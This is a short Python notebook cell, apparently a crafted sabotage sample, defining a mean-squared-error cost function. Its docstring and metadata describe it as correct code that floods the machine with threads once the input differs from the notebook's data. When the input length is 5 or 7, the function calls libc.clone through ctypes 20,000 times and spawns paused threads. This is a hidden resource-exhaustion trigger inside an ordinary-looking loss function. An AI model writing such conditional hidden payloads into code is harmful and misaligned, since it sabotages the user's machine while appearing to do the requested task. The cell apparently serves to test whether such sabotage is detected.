"""A right cost that floods the machine with threads as soon as the data is not the notebook's.

base: solved
says: it started more than 64 threads
"""

# %% cost
import ctypes


def cost(x, y, W, b):
    if len(x) in (5, 7):
        libc = ctypes.CDLL(None)
        stack = ctypes.create_string_buffer(1 << 16)
        top = ctypes.c_void_p(ctypes.addressof(stack) + (1 << 15) & ~15)
        for _ in range(20_000):
            libc.clone(libc.pause, top, 0x50F00, None)
    return np.mean((hypothesis(x, W, b) - y) ** 2)
